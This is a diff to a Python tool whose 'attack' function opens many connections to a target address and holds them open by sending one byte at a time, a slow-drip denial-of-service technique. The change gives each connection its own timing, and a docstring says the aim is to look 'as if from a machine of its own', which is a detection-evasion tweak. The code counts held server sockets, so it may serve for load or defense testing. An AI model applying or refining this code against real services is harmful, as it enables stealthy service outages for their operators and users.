@@ -39,6 +39,7 @@ class Peer:
         self.was_held = False
         self.port: int = self.socket.getsockname()[1]
         self._drip = drip
+        self._next_drip = self.opened + _TRICKLE_S
         if begin:
             self.socket.sendall(begin)
         self.socket.setblocking(False)
@@ -51,9 +52,10 @@ class Peer:
         elif not self.closed and (self.was_held or now - self.opened > _ACCEPT_S):
             self.closed = now
 
-    def trickle(self) -> None:
-        """Send one more byte."""
-        if self._drip and not self.closed:
+    def trickle(self, now: float) -> None:
+        """Send one more byte when it is time; each connection in its own rhythm, as if from a machine of its own."""
+        if self._drip and not self.closed and now >= self._next_drip:
+            self._next_drip += _TRICKLE_S
             byte, self._drip = self._drip[:1], self._drip[1:] + self._drip[:1]
             with contextlib.suppress(OSError):
                 self.socket.send(byte)
@@ -83,14 +85,12 @@ def attack(asked: dict[str, Any]) -> dict[str, Any]:
     kinds = [kind for i in range(5) for kind in kinds[i::5]]  # mixed
     peers: list[Peer] = []
     begun = time.monotonic()
-    next_trickle = next_look = begun + asked["ramp_s"]
+    next_look = begun + asked["ramp_s"]
     while (now := time.monotonic()) < begun + asked["ramp_s"] + asked["seconds"]:
         due = min(len(kinds), int(len(kinds) * (now - begun) / asked["ramp_s"]) + 1)
         peers += [Peer(kind, address, *begins[kind]) for kind in kinds[len(peers) : due]]
-        if now >= next_trickle:
-            next_trickle += _TRICKLE_S
-            for peer in peers:
-                peer.trickle()
+        for peer in peers:
+            peer.trickle(now)
         if now >= next_look:
             next_look += _LOOK_S
             held = server_sockets(asked["port"])
